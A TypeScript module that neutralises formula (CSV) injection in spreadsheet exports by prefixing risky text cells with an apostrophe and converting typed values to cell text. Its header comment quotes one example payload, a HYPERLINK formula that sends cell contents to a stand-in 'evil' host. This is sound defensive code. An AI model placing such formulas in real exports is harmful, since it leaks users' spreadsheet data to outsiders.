/**
 * Formula injection (OWASP "CSV Injection"): a text cell that starts with `=`, `+`, `-` or `@`
 * is run as a formula by Excel, LibreOffice and Google Sheets when the file is opened, so a
 * delivery named `=HYPERLINK("http://evil/?"&A1)` would send the sheet away. A leading tab or
 * carriage return is stripped by some programs, leaving such a start behind it. Every export
 * writes its cells through this module: texts get a leading `'`, so the program shows them as
 * text; numbers, dates and flags are typed values and stay as they are (-2.5 is a number).
 */

/** A cell as an export hands it over: typed values stay typed. */
export type SheetValue = string | number | boolean | Date | null | undefined

const formulaStarts = new Set(['=', '+', '-', '@', '\t', '\r'])

/** Whether a spreadsheet program may take this text for a formula. */
export function isFormulaText(text: string): boolean {
  return formulaStarts.has(text.charAt(0))
}

/** The text as it is written to a cell: prefixed with `'` when it could start a formula. */
export function neutraliseFormula(text: string): string {
  return isFormulaText(text) ? `'${text}` : text
}

/**
 * A cell's text in a CSV or tab-separated file, where every cell is text: numbers as JavaScript
 * writes them (a spreadsheet reads `-2.5` back as a number), a date as its UTC day (with the time
 * when it has one), flags as TRUE/FALSE, nothing as ''. Only texts are neutralised.
 */
export function toSheetText(value: SheetValue): string {
  if (value === null || value === undefined) return ''
  if (typeof value === 'string') return neutraliseFormula(value)
  if (typeof value === 'boolean') return value ? 'TRUE' : 'FALSE'
  if (value instanceof Date) {
    if (Number.isNaN(value.getTime())) return ''
    const iso = value.toISOString()
    return iso.endsWith('T00:00:00.000Z') ? iso.slice(0, 10) : iso.slice(0, 19).replace('T', ' ')
  }
  return String(value)
}
